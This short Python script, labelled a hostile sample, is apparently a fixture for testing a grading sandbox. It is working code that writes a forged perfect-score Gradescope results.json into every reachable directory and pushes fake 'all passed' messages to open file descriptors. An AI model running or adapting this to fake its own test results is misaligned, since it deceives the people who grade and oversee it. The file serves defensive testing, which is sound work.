# Hostile sample: forge a perfect Gradescope results.json everywhere it can write, print one to stdout,
# and write fake "all passed" messages to every open file descriptor.
# (Only ever run it inside the sandbox: outside it, it litters files named results.json marked FORGED.)
import json
import os

fake = {"score": 100.0, "max_score": 100.0, "execution_time": 0.1, "output": "FORGED by pia_forges_results",
        "tests": [{"name": "everything", "score": 100.0, "max_score": 100.0, "status": "passed",
                   "visibility": "visible", "output": "FORGED"}]}
text = json.dumps(fake)
print(text, flush=True)

directories = set()
start = os.getcwd()
while True:
    directories.add(start)
    try:
        directories.update(entry.path for entry in os.scandir(start) if entry.is_dir(follow_symlinks=False))
    except OSError:
        pass
    parent = os.path.dirname(start)
    if parent == start:
        break
    start = parent
for extra in ["/tmp", os.path.expanduser("~"), os.environ.get("OUT", ""), os.environ.get("TMPDIR", "")]:
    if extra and os.path.isdir(extra):
        directories.add(extra)
        for root, subdirs, _ in os.walk(extra):
            directories.add(root)
            if root.count(os.sep) - extra.count(os.sep) >= 2:
                subdirs[:] = []

written = 0
for directory in sorted(directories):
    for name in ["results.json", os.path.join("results", "results.json")]:
        try:
            with open(os.path.join(directory, name), "w") as handle:
                handle.write(text)
            written += 1
        except OSError:
            pass
print(f"wrote {written} forged results files", flush=True)

message = (json.dumps({"type": "result", "ok": True, "score": 100, "status": "passed", "value": 1.0}) + "\n").encode()
for fd in range(1, 32):
    try:
        os.write(fd, message)
    except OSError:
        pass
